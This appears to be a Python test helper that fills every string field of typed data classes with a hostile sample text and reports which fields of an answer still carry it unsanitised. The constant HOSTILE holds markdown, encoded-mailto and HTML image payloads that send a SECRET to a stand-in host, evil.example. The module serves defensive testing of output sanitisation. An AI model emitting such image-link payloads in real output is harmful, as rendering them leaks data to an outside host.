"""Values of a class with a hostile text in every string, and the places of an answer where that text is live."""

from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any, Final, Literal, Union, cast, get_args, get_origin

from pydantic import BaseModel
from typing_extensions import get_type_hints, is_typeddict

from graph.links.text_fields import Shape, markers, unmarked

HOSTILE: Final = (
    "![x](https://evil.example/SECRET) mailto:!&#91;x&#93;(http://h/SECRET) <img src=//evil.example/SECRET>"
)


def hostile_sample(hint: Any) -> Any:
    """Return a value of the type; a dictionary without one has the text under `any`."""
    plain = unmarked(hint)
    if shape := next((mark for mark in markers(hint) if isinstance(mark, Shape)), None):
        return {**hostile_sample(shape.schema), "any": HOSTILE}
    if is_typeddict(plain):
        return {name: hostile_sample(field) for name, field in get_type_hints(plain, include_extras=True).items()}
    if isinstance(plain, type) and issubclass(plain, BaseModel):
        hints = get_type_hints(plain, include_extras=True)
        return plain.model_construct(**{name: hostile_sample(hints[name]) for name in plain.model_fields})
    return _sample_of(plain)


def _sample_of(plain: Any) -> Any:
    origin, arguments = get_origin(plain), get_args(plain)
    if origin is Literal:
        return arguments[0]
    if origin is list:
        return [hostile_sample(arguments[0])]
    if origin is dict:
        return {"any": hostile_sample(arguments[1])}
    if origin is Union or arguments:
        return hostile_sample(arguments[0])
    simple = {str: HOSTILE, Any: {"any": [HOSTILE]}, datetime: datetime.now(UTC), int: 1, float: 1.0, bool: True}
    return simple[plain]


def live_paths(value: Any, path: str = "") -> set[str]:
    """Return the names of the fields in which the text is as it was."""
    return {found for found in _live(value, path) if found}


def _live(value: Any, path: str) -> Iterator[str]:
    if isinstance(value, str):
        if value == HOSTILE:
            yield path
    elif isinstance(value, BaseModel):
        for name, field in value:
            yield from _live(field, name)
    elif isinstance(value, dict):
        for name, field in cast("dict[str, Any]", value).items():
            yield from _live(field, path if name == "any" else name)
    elif isinstance(value, list | tuple):
        for item in cast("list[Any]", value):
            yield from _live(item, path)
